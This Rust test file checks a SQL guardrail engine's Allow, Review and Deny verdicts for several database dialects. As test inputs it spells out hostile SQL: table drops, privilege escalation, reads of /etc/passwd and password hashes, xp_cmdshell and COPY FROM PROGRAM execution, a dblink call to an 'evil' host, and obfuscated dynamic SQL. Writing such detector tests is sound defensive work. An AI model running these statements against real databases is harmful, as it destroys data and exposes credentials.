//! Each SQL rule with inputs that must fire it and allow-side inputs that must not.
#![allow(
    clippy::unwrap_used,
    clippy::panic,
    clippy::indexing_slicing,
    reason = "test helpers fail the test by panicking"
)]

use guardrails_core::{evaluate, Action, Context, Dialect, Verdict};

/// (dialect, input, expected verdict, rule that must be among the findings or "" for none).
type Case = (&'static str, &'static str, Verdict, &'static str);

use Verdict::{Allow, Deny, Review};

const CASES: &[Case] = &[
    // sql.drop
    ("postgres", "DROP TABLE users", Deny, "sql.drop"),
    ("postgres", "dRoP tAbLe users", Deny, "sql.drop"),
    ("postgres", "DROP SCHEMA billing CASCADE", Deny, "sql.drop"),
    ("postgres", "DROP DATABASE prod", Deny, "sql.drop"),
    ("snowflake", "CREATE OR REPLACE TABLE orders (id int)", Deny, "sql.drop"),
    ("postgres", "DROP VIEW v_orders", Review, "sql.drop"),
    ("postgres", "DROP VIEW v_orders CASCADE", Deny, "sql.drop"),
    ("postgres", "DROP INDEX CONCURRENTLY idx_a", Review, "sql.drop"),
    ("postgres", "CREATE TEMP TABLE scratch AS SELECT 1; DROP TABLE scratch", Allow, ""),
    ("mysql", "DROP TEMPORARY TABLE tmp_x", Allow, ""),
    ("mssql", "DROP TABLE #work", Allow, ""),
    ("postgres", "DROP TABLE IF EXISTS tmp_import", Deny, "sql.drop"),
    ("postgres", "SELECT 'DROP TABLE users'", Allow, ""),
    ("postgres", "SELECT \"drop\" FROM t WHERE id = 1", Allow, ""),
    // sql.truncate
    ("postgres", "TRUNCATE orders", Deny, "sql.truncate"),
    ("postgres", "TRUNCATE TABLE a, b RESTART IDENTITY", Deny, "sql.truncate"),
    ("mysql", "ALTER TABLE logs ENGINE=BLACKHOLE", Deny, "sql.truncate"),
    ("postgres", "CREATE TEMPORARY TABLE t (id int); TRUNCATE t", Allow, ""),
    // sql.delete-without-where
    ("postgres", "DELETE FROM users", Deny, "sql.delete-without-where"),
    ("mysql", "DELETE FROM users LIMIT 10", Deny, "sql.delete-without-where"),
    ("mssql", "DELETE TOP (5) FROM users", Deny, "sql.delete-without-where"),
    ("postgres", "DELETE FROM users /* WHERE id = 1 */", Deny, "sql.delete-without-where"),
    ("postgres", "DELETE FROM users WHERE id = $1", Allow, ""),
    ("postgres", "DELETE FROM cart_items WHERE cart_id = $1", Allow, ""),
    // sql.update-without-where
    ("postgres", "UPDATE users SET active = false", Deny, "sql.update-without-where"),
    ("sqlite", "UPDATE users SET active = 0 -- WHERE id = 3", Deny, "sql.update-without-where"),
    ("postgres", "UPDATE users SET name = $2 WHERE id = $1", Allow, ""),
    ("mssql", "UPDATE dbo.Parcels SET Status = N'x' WHERE ParcelId = @ParcelId", Allow, ""),
    // sql.tautological-where
    ("postgres", "DELETE FROM t WHERE 1=1", Deny, "sql.tautological-where"),
    ("postgres", "DELETE FROM t WHERE 'a' = 'a'", Deny, "sql.tautological-where"),
    ("postgres", "DELETE FROM t WHERE TRUE", Deny, "sql.tautological-where"),
    ("postgres", "DELETE FROM t WHERE NOT FALSE", Deny, "sql.tautological-where"),
    ("postgres", "DELETE FROM t WHERE id = id", Deny, "sql.tautological-where"),
    ("postgres", "DELETE FROM t WHERE id = 5 OR TRUE", Deny, "sql.tautological-where"),
    ("postgres", "DELETE FROM t WHERE x IS NOT NULL OR 1=1", Deny, "sql.tautological-where"),
    ("postgres", "DELETE FROM t WHERE 1 IN (1, 2)", Deny, "sql.tautological-where"),
    ("postgres", "DELETE FROM t WHERE name LIKE '%'", Deny, "sql.tautological-where"),
    ("postgres", "DELETE FROM t WHERE 2 > 1", Deny, "sql.tautological-where"),
    ("postgres", "DELETE FROM t WHERE x IS NULL OR x IS NOT NULL", Deny, "sql.tautological-where"),
    ("postgres", "DELETE FROM t WHERE id IN (SELECT id FROM t)", Deny, "sql.tautological-where"),
    ("postgres", "DELETE FROM t WHERE id NOT IN (SELECT id FROM u WHERE false)", Deny, "sql.tautological-where"),
    ("postgres", "DELETE FROM t WHERE EXISTS (SELECT 1)", Deny, "sql.tautological-where"),
    ("postgres", "DELETE FROM t WHERE id > 0", Deny, "sql.tautological-where"),
    ("postgres", "DELETE FROM t WHERE created_at < now()", Deny, "sql.tautological-where"),
    ("mysql", "DELETE FROM t WHERE 1", Deny, "sql.tautological-where"),
    ("mysql", "UPDATE users SET x = 1 WHERE username = 0", Deny, "sql.tautological-where"),
    ("mysql", "UPDATE users SET x = 1 WHERE id = 5 || 1", Deny, "sql.tautological-where"),
    ("postgres", "DELETE FROM t WHERE 1=1 AND id = $1", Allow, ""),
    ("postgres", "DELETE FROM t WHERE false", Allow, ""),
    ("postgres", "DELETE FROM t WHERE id IN (1, 2, 3)", Allow, ""),
    ("postgres", "DELETE FROM t WHERE id = ANY($1)", Allow, ""),
    // sql.drop-column
    ("postgres", "ALTER TABLE users DROP COLUMN email", Deny, "sql.drop-column"),
    ("mysql", "ALTER TABLE users DROP email", Deny, "sql.drop-column"),
    ("postgres", "ALTER TABLE users DROP CONSTRAINT users_email_key", Review, "sql.alter-schema"),
    // sql.alter-schema
    ("postgres", "ALTER TABLE users ADD COLUMN nickname text", Review, "sql.alter-schema"),
    ("postgres", "ALTER TABLE users RENAME TO people", Review, "sql.alter-schema"),
    ("postgres", "CREATE OR REPLACE VIEW v AS SELECT 1", Review, "sql.alter-schema"),
    ("postgres", "CREATE INDEX idx ON orders (created_at)", Review, "sql.alter-schema"),
    ("postgres", "CREATE EXTENSION pg_trgm", Review, "sql.alter-schema"),
    ("postgres", "CREATE INDEX CONCURRENTLY idx ON orders (created_at)", Allow, ""),
    ("postgres", "CREATE TABLE audit_2026 (id bigint primary key)", Allow, ""),
    ("postgres", "CREATE VIEW v_recent AS SELECT id FROM orders", Allow, ""),
    // sql.privilege-change
    ("postgres", "GRANT ALL ON orders TO app", Deny, "sql.privilege-change"),
    ("postgres", "GRANT SELECT ON orders TO app WITH GRANT OPTION", Deny, "sql.privilege-change"),
    ("postgres", "ALTER ROLE app WITH SUPERUSER", Deny, "sql.privilege-change"),
    ("postgres", "GRANT pg_read_server_files TO app", Deny, "sql.privilege-change"),
    ("postgres", "GRANT pg_write_all_data TO app", Deny, "sql.privilege-change"),
    ("postgres", "ALTER USER postgres PASSWORD 'x'", Deny, "sql.privilege-change"),
    ("postgres", "SET ROLE postgres", Deny, "sql.privilege-change"),
    ("postgres", "ALTER TABLE orders OWNER TO mallory", Deny, "sql.privilege-change"),
    ("mysql", "UPDATE mysql.user SET authentication_string = '' WHERE user = 'root'", Deny, "sql.privilege-change"),
    ("postgres", "GRANT SELECT ON orders TO analyst", Review, "sql.privilege-change"),
    ("postgres", "REVOKE SELECT ON orders FROM analyst", Review, "sql.privilege-change"),
    ("postgres", "CREATE ROLE reporting LOGIN", Review, "sql.privilege-change"),
    ("postgres", "UPDATE users SET is_admin = true WHERE id = 7", Review, "sql.privilege-change"),
    ("postgres", "SET ROLE readonly", Allow, ""),
    ("postgres", "RESET ROLE", Allow, ""),
    // sql.file-access
    ("postgres", "COPY users TO '/tmp/users.csv'", Deny, "sql.file-access"),
    ("postgres", "SELECT pg_read_file('/etc/passwd')", Deny, "sql.file-access"),
    ("postgres", "SELECT lo_export(1234, '/tmp/x')", Deny, "sql.file-access"),
    ("mysql", "SELECT LOAD_FILE('/etc/passwd')", Deny, "sql.file-access"),
    ("mysql", "SELECT * FROM users INTO DUMPFILE '/tmp/x'", Deny, "sql.file-access"),
    ("mysql", "LOAD DATA LOCAL INFILE 'orders.csv' INTO TABLE orders", Deny, "sql.file-access"),
    ("sqlite", "ATTACH DATABASE '/tmp/x.db' AS x", Deny, "sql.file-access"),
    ("sqlite", "ATTACH DATABASE ':memory:' AS scratch", Allow, ""),
    ("sqlite", "VACUUM INTO '/tmp/copy.db'", Deny, "sql.file-access"),
    ("mssql", "BULK INSERT orders FROM 'C:\\data\\o.csv'", Deny, "sql.file-access"),
    ("postgres", "COPY orders (id, total) FROM STDIN WITH (FORMAT csv)", Allow, ""),
    // sql.program-execution
    ("postgres", "COPY t FROM PROGRAM 'id'", Deny, "sql.program-execution"),
    ("mssql", "EXEC xp_cmdshell 'whoami'", Deny, "sql.program-execution"),
    ("mssql", "EXEC sp_configure 'xp_cmdshell', 1", Deny, "sql.program-execution"),
    ("sqlite", "SELECT load_extension('/tmp/evil.so')", Deny, "sql.program-execution"),
    ("postgres", "CREATE FUNCTION f() RETURNS int AS '/tmp/x.so', 'f' LANGUAGE C", Deny, "sql.program-execution"),
    ("postgres", "CREATE FUNCTION f() RETURNS text AS $$ import os $$ LANGUAGE plpython3u", Deny, "sql.program-execution"),
    ("mysql", "CREATE FUNCTION sys_exec RETURNS INT SONAME 'lib_mysqludf_sys.so'", Deny, "sql.program-execution"),
    // sql.exfiltration
    ("bigquery", "EXPORT DATA OPTIONS(uri='gs://b/x-*.csv', format='CSV') AS SELECT * FROM t", Deny, "sql.exfiltration"),
    ("snowflake", "COPY INTO @ext_stage/out FROM orders", Deny, "sql.exfiltration"),
    ("snowflake", "COPY INTO 's3://bucket/x' FROM orders", Deny, "sql.exfiltration"),
    ("snowflake", "COPY INTO @~/unload/ FROM orders", Review, "sql.exfiltration"),
    ("snowflake", "COPY INTO orders FROM @stage/orders.csv", Allow, ""),
    ("postgres", "SELECT * FROM dblink('host=evil', 'SELECT 1') AS t(x int)", Deny, "sql.exfiltration"),
    ("postgres", "CREATE PUBLICATION everything FOR ALL TABLES", Review, "sql.exfiltration"),
    ("mssql", "BACKUP DATABASE prod TO URL = 'https://x.blob.core.windows.net/b/prod.bak'", Deny, "sql.exfiltration"),
    // sql.disable-safety
    ("postgres", "ALTER SYSTEM SET work_mem = '64MB'", Deny, "sql.disable-safety"),
    ("postgres", "SET session_replication_role = replica", Deny, "sql.disable-safety"),
    ("postgres", "SELECT set_config('session_replication_role', 'replica', false)", Deny, "sql.disable-safety"),
    ("postgres", "ALTER TABLE orders DISABLE TRIGGER ALL", Deny, "sql.disable-safety"),
    ("postgres", "ALTER TABLE orders SET UNLOGGED", Deny, "sql.disable-safety"),
    ("mysql", "SET sql_log_bin = 0", Deny, "sql.disable-safety"),
    ("mysql", "SET GLOBAL general_log = 'OFF'", Deny, "sql.disable-safety"),
    ("mysql", "PURGE BINARY LOGS BEFORE NOW()", Deny, "sql.disable-safety"),
    ("mssql", "ALTER DATABASE prod SET RECOVERY SIMPLE", Deny, "sql.disable-safety"),
    ("snowflake", "ALTER TABLE orders SET DATA_RETENTION_TIME_IN_DAYS = 0", Deny, "sql.disable-safety"),
    ("sqlite", "PRAGMA writable_schema = ON", Deny, "sql.disable-safety"),
    ("mysql", "SET FOREIGN_KEY_CHECKS = 0", Review, "sql.disable-safety"),
    ("sqlite", "PRAGMA foreign_keys = OFF", Review, "sql.disable-safety"),
    ("mysql", "SET SQL_SAFE_UPDATES = 0; DELETE FROM orders", Deny, "sql.disable-safety"),
    ("sqlite", "PRAGMA journal_mode = WAL", Allow, ""),
    ("sqlite", "PRAGMA table_info(users)", Allow, ""),
    ("postgres", "SET statement_timeout = '5s'", Allow, ""),
    // sql.stacked-statements
    ("postgres", "SELECT 1; DROP TABLE users", Deny, "sql.stacked-statements"),
    ("mssql", "SELECT 1\nGO\nDROP TABLE users", Deny, "sql.stacked-statements"),
    ("postgres", "BEGIN; INSERT INTO t VALUES (1); UPDATE t SET x = 1 WHERE id = $1; COMMIT;", Allow, ""),
    // sql.hidden-code
    ("mysql", "SELECT 1 /*!50000 ; DROP TABLE users */", Deny, "sql.hidden-code"),
    ("mysql", "/*M!100500 TRUNCATE TABLE t */", Deny, "sql.hidden-code"),
    ("generic", "SELECT 1 /*!50000 ; DROP TABLE users */", Deny, "sql.hidden-code"),
    ("mssql", "EXEC('DR' + 'OP TABLE users')", Deny, "sql.hidden-code"),
    ("mssql", "EXEC(CHAR(68) + 'ROP TABLE users')", Deny, "sql.hidden-code"),
    ("postgres", "DO $$ BEGIN EXECUTE 'DROP TABLE ' || 'users'; END $$", Deny, "sql.hidden-code"),
    ("postgres", "DO $$ BEGIN EXECUTE convert_from(decode('RFJPUCBUQUJMRSB1c2Vycw==', 'base64'), 'UTF8'); END $$", Deny, "sql.hidden-code"),
    ("mysql", "SET @q = CONCAT('DR', 'OP TABLE t'); PREPARE s FROM @q; EXECUTE s", Deny, "sql.hidden-code"),
    ("postgres", "EXECUTE some_statement", Review, "sql.hidden-code"),
    ("postgres", "DO $$ BEGIN EXECUTE q; END $$", Review, "sql.hidden-code"),
    ("postgres", "CREATE FUNCTION purge() RETURNS trigger AS $$ BEGIN DELETE FROM orders; RETURN NULL; END $$ LANGUAGE plpgsql", Deny, "sql.hidden-code"),
    ("postgres", "DO $$ BEGIN RAISE NOTICE 'hello'; END $$", Allow, ""),
    ("postgres", "SELECT format('DROP TABLE %I', tablename) FROM pg_tables", Allow, ""),
    ("postgres", "SELECT format('DROP TABLE %I', tablename) FROM pg_tables \\gexec", Deny, "sql.hidden-code"),
    ("mysql", "PREPARE s FROM 'SELECT * FROM t WHERE id = ?'; EXECUTE s USING @id", Allow, ""),
    ("postgres", "SELECT 1 /*!50000 ; DROP TABLE users */", Allow, ""),
    // sql.sensitive-bulk-read
    ("postgres", "SELECT * FROM users", Review, "sql.sensitive-bulk-read"),
    ("postgres", "SELECT email, phone FROM orders", Review, "sql.sensitive-bulk-read"),
    ("postgres", "SELECT ssn FROM employees WHERE department = 'x'", Review, "sql.sensitive-bulk-read"),
    ("postgres", "SELECT * FROM customers LIMIT 5000", Review, "sql.sensitive-bulk-read"),
    ("postgres", "COPY users TO STDOUT", Review, "sql.sensitive-bulk-read"),
    ("mysql", "TABLE users", Review, "sql.sensitive-bulk-read"),
    ("postgres", "SELECT rolname, rolpassword FROM pg_authid", Deny, "sql.sensitive-bulk-read"),
    ("mysql", "SELECT user, authentication_string FROM mysql.user", Deny, "sql.sensitive-bulk-read"),
    ("postgres", "SELECT name FROM products WHERE id = 1 UNION SELECT usename, passwd FROM pg_shadow", Deny, "sql.sensitive-bulk-read"),
    ("postgres", "SELECT * FROM users WHERE id = $1", Allow, ""),
    ("postgres", "SELECT count(*) FROM users", Allow, ""),
    ("postgres", "SELECT * FROM users LIMIT 100", Allow, ""),
    ("postgres", "SELECT usename, usesuper, passwd FROM pg_user", Allow, ""),
    // sql.broad-write
    ("postgres", "DELETE FROM sessions WHERE expires_at < now()", Review, "sql.broad-write"),
    ("postgres", "UPDATE orders SET status = 'x' WHERE status = 'y'", Review, "sql.broad-write"),
    ("postgres", "DELETE FROM orders WHERE tenant_id = $1", Review, "sql.broad-write"),
    ("postgres", "DELETE FROM foo USING bar WHERE foo.bar_id = bar.id AND bar.id = 'c'", Review, "sql.broad-write"),
    ("mysql", "DELETE o FROM orders o JOIN customers c ON c.id = o.customer_id", Review, "sql.broad-write"),
    ("postgres", "UPDATE jobs SET owner = $1 WHERE id = (SELECT id FROM jobs WHERE owner IS NULL LIMIT 1 FOR UPDATE SKIP LOCKED)", Allow, ""),
    ("postgres", "UPDATE weather SET temp = 1 WHERE city = 'SF' AND date = '2003-07-03'", Allow, ""),
    // sql.lock-or-maintenance
    ("postgres", "VACUUM FULL orders", Review, "sql.lock-or-maintenance"),
    ("postgres", "REINDEX TABLE orders", Review, "sql.lock-or-maintenance"),
    ("postgres", "LOCK TABLE orders IN ACCESS EXCLUSIVE MODE", Review, "sql.lock-or-maintenance"),
    ("postgres", "SELECT setval('orders_id_seq', 1)", Review, "sql.lock-or-maintenance"),
    ("postgres", "SELECT pg_terminate_backend(pid) FROM pg_stat_activity", Review, "sql.lock-or-maintenance"),
    ("mysql", "FLUSH TABLES WITH READ LOCK", Review, "sql.lock-or-maintenance"),
    ("mysql", "OPTIMIZE TABLE orders", Review, "sql.lock-or-maintenance"),
    ("mssql", "SHUTDOWN WITH NOWAIT", Deny, "sql.lock-or-maintenance"),
    ("mssql", "DBCC CHECKDB ('prod', REPAIR_ALLOW_DATA_LOSS)", Deny, "sql.lock-or-maintenance"),
    ("postgres", "VACUUM (ANALYZE, VERBOSE) orders", Allow, ""),
    ("postgres", "ANALYZE VERBOSE orders", Allow, ""),
    ("postgres", "REINDEX INDEX CONCURRENTLY idx_a", Allow, ""),
    ("postgres", "REFRESH MATERIALIZED VIEW CONCURRENTLY mv", Allow, ""),
    ("postgres", "SELECT pg_sleep(0.1)", Allow, ""),
    // sql.unparseable
    ("postgres", "SELEC * FROM users", Deny, "sql.unparseable"),
    ("postgres", "SELECT * FROM users WHERE name = 'abc", Deny, "sql.unparseable"),
    ("postgres", "SELECT * FROM", Deny, "sql.unparseable"),
    ("postgres", "show me the top 10 customers by revenue", Deny, "sql.unparseable"),
    ("postgres", "DROP TABLE us\u{0435}rs", Deny, "sql.unparseable"),
    ("postgres", "SELECT 1 /* unterminated", Deny, "sql.unparseable"),
    // writable CTEs and EXPLAIN
    ("postgres", "WITH d AS (DELETE FROM users RETURNING id) SELECT count(*) FROM d", Deny, "sql.delete-without-where"),
    ("postgres", "EXPLAIN ANALYZE UPDATE users SET x = 1", Deny, "sql.update-without-where"),
    ("postgres", "EXPLAIN (ANALYZE false) UPDATE users SET x = 1", Allow, ""),
    ("postgres", "EXPLAIN UPDATE users SET x = 1", Allow, ""),
    // benign traffic
    ("postgres", "SELECT o.id, sum(i.qty) FROM orders o JOIN items i ON i.order_id = o.id WHERE o.created_at > now() - interval '1 day' GROUP BY o.id", Allow, ""),
    ("postgres", "INSERT INTO orders (id, total) VALUES ($1, $2) ON CONFLICT (id) DO UPDATE SET total = EXCLUDED.total", Allow, ""),
    ("mysql", "INSERT INTO t (a, b) VALUES (%s, %s)", Allow, ""),
    ("mssql", "SELECT TOP 10 * FROM orders ORDER BY id DESC OPTION (RECOMPILE)", Allow, ""),
    ("postgres", "-- just a comment", Allow, ""),
    ("postgres", "", Allow, ""),
];

#[test]
fn sql_rules_fire_and_stay_quiet() {
    let mut failures = Vec::new();
    for (dialect, input, verdict, rule) in CASES {
        let d = evaluate(
            &Action::sql(dialect.parse::<Dialect>().unwrap(), *input),
            &Context::default(),
        );
        let rules: Vec<&str> = d.rules().collect();
        let rule_ok = rule.is_empty() || rules.contains(rule);
        if d.verdict != *verdict || !rule_ok {
            failures.push(format!(
                "[{dialect}] {input:?}: got {} {rules:?}, expected {verdict} {rule:?}",
                d.verdict
            ));
        }
    }
    println!("{} SQL rule cases checked", CASES.len());
    assert!(
        failures.is_empty(),
        "{} of {} failed:\n{}",
        failures.len(),
        CASES.len(),
        failures.join("\n")
    );
}
